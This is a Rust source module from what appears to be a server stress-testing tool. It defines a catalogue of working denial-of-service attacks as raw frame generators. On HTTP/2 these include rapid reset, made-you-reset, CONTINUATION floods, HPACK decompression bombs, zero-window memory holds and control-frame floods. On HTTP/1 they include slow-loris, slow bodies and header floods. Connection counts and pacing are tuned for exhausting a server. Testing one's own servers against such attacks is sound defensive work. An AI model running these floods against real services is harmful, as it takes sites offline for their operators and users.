//! Definitions of the attacks.

use super::wire::*;

/// Action of an attack connection in one turn.
pub enum AttackTurn {
    /// Sends these bytes.
    Send(Vec<u8>),
    /// Sends nothing more and keeps the connection open.
    Hold,
}

/// Definition of an attack.
#[derive(Clone, Copy)]
pub struct Attack {
    /// Name, as `--only` takes it.
    pub name: &'static str,
    /// Description, with the CVE number if there is one.
    pub about: &'static str,
    /// Whether the attack uses HTTP/2.
    pub is_http2: bool,
    /// Number of concurrent connections.
    pub connections: usize,
    /// Whether the attacker reads the server's responses.
    pub reads_responses: bool,
    /// Milliseconds between two turns of a connection; 0 for as fast as possible.
    pub pause_ms: u64,
    /// Returns the action of a turn (numbered from 0), after the HTTP/2 preface and settings.
    pub turn: fn(&AttackTarget, usize) -> AttackTurn,
}

/// Frames per turn of a flood.
const BATCH: usize = 100;
/// Concurrent streams that most servers allow.
const STREAMS: usize = 100;
/// Size of the field value that header blocks refer to repeatedly.
const BOMB_VALUE_BYTES: usize = 4_000;

fn flood_turn(frame: &[u8]) -> AttackTurn {
    AttackTurn::Send(frame.repeat(BATCH))
}

/// Returns a batch of requests; `request` builds the frames of one stream.
fn request_batch(turn: usize, request: impl Fn(u32) -> Vec<u8>) -> AttackTurn {
    AttackTurn::Send((turn * BATCH..(turn + 1) * BATCH).flat_map(|at| request(stream_id(at))).collect())
}

/// Returns `first` in the first turn, `rest` in all others.
fn first_then(turn: usize, first: impl FnOnce() -> Vec<u8>, rest: impl FnOnce() -> AttackTurn) -> AttackTurn {
    if turn == 0 { AttackTurn::Send(first()) } else { rest() }
}

fn encode_requests(count: usize, request: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..count).flat_map(|at| request(stream_id(at))).collect()
}

/// Returns a request with references to a large field, which the first request adds to the dynamic table.
fn encode_header_bomb(target: &AttackTarget, at: usize, references: usize) -> Vec<u8> {
    let mut block = target.header_block(false);
    if at == 0 {
        push_indexed(&mut block, b"x", &[b'v'; BOMB_VALUE_BYTES]);
    }
    block.extend(std::iter::repeat_n(0xbe, references));
    frame(kind::HEADERS, END_STREAM | END_HEADERS, stream_id(at), &block)
}

/// Returns a header block that shrinks the dynamic table, enlarges it again and fills it.
fn encode_table_churn(target: &AttackTarget, id: u32) -> Vec<u8> {
    let mut block = vec![0x20, 0x3f, 0xe1, 0x1f];
    block.extend(target.header_block(false));
    push_indexed(&mut block, b"x", &[b'v'; BOMB_VALUE_BYTES]);
    frame(kind::HEADERS, END_STREAM | END_HEADERS, id, &block)
}

const fn http2(
    name: &'static str,
    about: &'static str,
    (connections, reads, pause_ms): (usize, bool, u64),
    turn: fn(&AttackTarget, usize) -> AttackTurn,
) -> Attack {
    Attack { name, about, is_http2: true, connections, reads_responses: reads, pause_ms, turn }
}

const fn http1(
    name: &'static str,
    about: &'static str,
    (connections, reads, pause_ms): (usize, bool, u64),
    turn: fn(&AttackTarget, usize) -> AttackTurn,
) -> Attack {
    Attack { name, about, is_http2: false, connections, reads_responses: reads, pause_ms, turn }
}

/// Settings of a flood, which sends as fast as possible: number of connections, whether they read responses, and
/// the pause in milliseconds.
const FLOOD_SETTINGS: (usize, bool, u64) = (4, true, 0);
/// The same settings of an attack that occupies memory and reads nothing.
const HOLD_SETTINGS: (usize, bool, u64) = (50, false, 100);

/// All attacks, beginning with those on HTTP/2.
pub const ATTACKS: &[Attack] = &[
    http2("rapid-reset", "requests that are reset at once (CVE-2023-44487)", FLOOD_SETTINGS, |to, turn| {
        request_batch(turn, |id| [to.get(id), rst_stream(id, 8)].concat())
    }),
    http2(
        "made-you-reset",
        "requests that the server is made to reset (CVE-2025-8671)",
        FLOOD_SETTINGS,
        |to, turn| request_batch(turn, |id| [to.get(id), window_update(id, 0)].concat()),
    ),
    http2("continuation-flood", "a header block without end", FLOOD_SETTINGS, |to, turn| {
        let mut fields = Vec::new();
        (0..1_000).for_each(|_| push_literal(&mut fields, b"a", b"b"));
        let first = || frame(kind::HEADERS, END_STREAM, 1, &to.header_block(false));
        first_then(turn, first, || AttackTurn::Send(frame(kind::CONTINUATION, 0, 1, &fields)))
    }),
    http2("empty-continuation", "CONTINUATION frames without a byte", FLOOD_SETTINGS, |to, turn| {
        let first = || frame(kind::HEADERS, END_STREAM, 1, &to.header_block(false));
        first_then(turn, first, || flood_turn(&frame(kind::CONTINUATION, 0, 1, &[])))
    }),
    http2("hpack-bomb", "heads of 12 KB that unpack to 48 MB", FLOOD_SETTINGS, |to, turn| {
        AttackTurn::Send(encode_header_bomb(to, turn, 12_000))
    }),
    http2(
        "indexed-references",
        "small heads that unpack thousandfold, windows of 0 (CVE-2026-49975)",
        (20, false, 1),
        |to, turn| {
            // The heads stay below usual limits, so they are accepted; a window that never opens keeps their
            // memory in use.
            first_then(
                turn,
                || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), encode_header_bomb(to, 0, 2)].concat(),
                || AttackTurn::Send([encode_header_bomb(to, turn, 3), window_update(0, 1)].concat()),
            )
        },
    ),
    http2("empty-data", "DATA frames without a byte (RUSTSEC-2026-0258)", FLOOD_SETTINGS, |to, turn| {
        first_then(turn, || to.post(1), || flood_turn(&frame(kind::DATA, 0, 1, &[])))
    }),
    http2("ping-flood", "PING frames", FLOOD_SETTINGS, |_, _| flood_turn(&frame(kind::PING, 0, 0, &[0; 8]))),
    http2("unread-pings", "PING frames whose answers are not read", (4, false, 0), |_, _| {
        flood_turn(&frame(kind::PING, 0, 0, &[0; 8]))
    }),
    http2("settings-flood", "SETTINGS frames of many values", FLOOD_SETTINGS, |_, _| {
        AttackTurn::Send(settings(&[(INITIAL_WINDOW_SIZE, 65_535); 100]).repeat(10))
    }),
    http2("priority-flood", "PRIORITY frames", FLOOD_SETTINGS, |_, turn| {
        AttackTurn::Send(encode_requests(BATCH, |id| {
            frame(kind::PRIORITY, 0, id + turn as u32 % 1_000 * 2, &[0, 0, 0, 0, 9])
        }))
    }),
    http2(
        "priority-update-flood",
        "PRIORITY_UPDATE frames for streams to come",
        FLOOD_SETTINGS,
        |_, turn| {
            let update =
                |id: u32| frame(kind::PRIORITY_UPDATE, 0, 0, &[&id.to_be_bytes()[..], b"u=1"].concat());
            request_batch(turn, update)
        },
    ),
    http2("window-update-flood", "WINDOW_UPDATE frames of one byte", FLOOD_SETTINGS, |_, _| {
        flood_turn(&window_update(0, 1))
    }),
    http2("dripped-window", "responses that are allowed one byte at a time", (10, true, 20), |to, turn| {
        let first =
            || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), encode_requests(STREAMS, |id| to.get(id))].concat();
        first_then(turn, first, || AttackTurn::Send(encode_requests(STREAMS, |id| window_update(id, 1))))
    }),
    http2("zero-window", "responses under windows that stay closed", HOLD_SETTINGS, |to, turn| {
        let first =
            || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), encode_requests(STREAMS, |id| to.get(id))].concat();
        first_then(turn, first, || AttackTurn::Hold)
    }),
    http2("unread-responses", "responses under the largest windows, not read", HOLD_SETTINGS, |to, turn| {
        let open = [settings(&[(INITIAL_WINDOW_SIZE, 0x7fff_ffff)]), window_update(0, 0x7fff_0000)].concat();
        first_then(turn, || [open, encode_requests(STREAMS, |id| to.get(id))].concat(), || AttackTurn::Hold)
    }),
    http2("dribbled-bodies", "bodies that come byte by byte on all streams", (20, true, 50), |to, turn| {
        let byte = |id| frame(kind::DATA, 0, id, b"x");
        first_then(
            turn,
            || encode_requests(STREAMS, |id| to.post(id)),
            || AttackTurn::Send(encode_requests(STREAMS, byte)),
        )
    }),
    http2("table-churn", "header blocks that empty and fill HPACK's table", FLOOD_SETTINGS, |to, turn| {
        AttackTurn::Send(
            (turn * 10..turn * 10 + 10).flat_map(|at| encode_table_churn(to, stream_id(at))).collect(),
        )
    }),
    http2(
        "table-size-flood",
        "SETTINGS that make the server's table small and large",
        FLOOD_SETTINGS,
        |_, _| {
            let sizes = [settings(&[(HEADER_TABLE_SIZE, 0)]), settings(&[(HEADER_TABLE_SIZE, 4_096)])];
            flood_turn(&sizes.concat())
        },
    ),
    http2("goaway-races", "GOAWAY frames between requests that are reset", FLOOD_SETTINGS, |to, turn| {
        let leave = frame(kind::GOAWAY, 0, 0, &[0; 8]);
        request_batch(turn, |id| [to.post(id), leave.clone(), rst_stream(id, 0), rst_stream(id, 8)].concat())
    }),
    http1("slow-loris", "heads that come byte by byte (HTTP/1)", (200, true, 100), |to, turn| {
        first_then(
            turn,
            || to.http1("GET").into_bytes(),
            || AttackTurn::Send(b"X: y\r\n"[(turn + 5) % 6..(turn + 5) % 6 + 1].to_vec()),
        )
    }),
    http1("header-flood", "a head without end (HTTP/1)", FLOOD_SETTINGS, |to, turn| {
        first_then(
            turn,
            || to.http1("GET").into_bytes(),
            || flood_turn(b"X-Field-Of-A-Flood: 0123456789\r\n"),
        )
    }),
    http1("slow-body", "bodies that come byte by byte (HTTP/1)", (200, true, 100), |to, turn| {
        let head = || format!("{}Content-Length: 100000\r\n\r\n", to.http1("POST")).into_bytes();
        first_then(turn, head, || AttackTurn::Send(b"x".to_vec()))
    }),
    http1("tiny-chunks", "a body in chunks of one byte (HTTP/1)", FLOOD_SETTINGS, |to, turn| {
        let head = || format!("{}Transfer-Encoding: chunked\r\n\r\n", to.http1("POST")).into_bytes();
        first_then(turn, head, || flood_turn(b"1\r\nx\r\n"))
    }),
    http1(
        "unread-pipeline",
        "pipelined requests whose responses are not read (HTTP/1)",
        (50, false, 0),
        |to, _| AttackTurn::Send(format!("{}\r\n", to.http1("GET")).repeat(10).into_bytes()),
    ),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_attack_has_a_unique_name_and_sends_bytes() {
        let target = AttackTarget { authority: "a".into(), path: "/".into(), is_https: false };
        for attack in ATTACKS {
            assert_eq!(ATTACKS.iter().filter(|other| other.name == attack.name).count(), 1);
            assert!(matches!((attack.turn)(&target, 0), AttackTurn::Send(bytes) if !bytes.is_empty()));
            let _ = (attack.turn)(&target, 12_345);
        }
    }
}
